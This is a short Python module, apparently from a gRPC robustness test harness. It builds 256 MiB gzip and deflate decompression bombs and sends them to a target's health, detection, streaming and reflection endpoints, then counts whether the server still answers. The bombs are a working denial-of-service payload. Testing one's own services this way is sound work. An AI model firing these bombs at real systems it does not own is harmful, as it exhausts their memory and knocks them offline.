"""Messages that are larger than they look."""

from __future__ import annotations

import gzip
import zlib
from functools import cache

from http2 import DETECT, HEALTH, REFLECTION, STREAM, message
from target import Tally, Target, attack, rounds

PATHS = (HEALTH, DETECT, STREAM, REFLECTION)


@cache
def _bomb(encoding: str) -> bytes:
    """A few hundred kB that are 256 MiB."""
    zeros = bytes(256 << 20)
    packed = gzip.compress(zeros, 9) if encoding == "gzip" else zlib.compress(zeros, 9)
    return message(packed, compressed=True)


def _explode(target: Target, encoding: str) -> Tally:
    tally: Tally = Tally()
    for survived in rounds(target, tally):
        for path in PATHS:
            with survived, target.connect() as connection:
                said = connection.ask(path, _bomb(encoding), 2.0, ("grpc-encoding", encoding))
                tally["answered"] += b"grpc-status" in said
    return tally


@attack("answered")
def gzip_bomb(target: Target) -> Tally:
    """gzip messages of 256 MiB to health, Detect, DetectStream and reflection"""
    return _explode(target, "gzip")


@attack("answered")
def deflate_bomb(target: Target) -> Tally:
    """The same by deflate"""
    return _explode(target, "deflate")
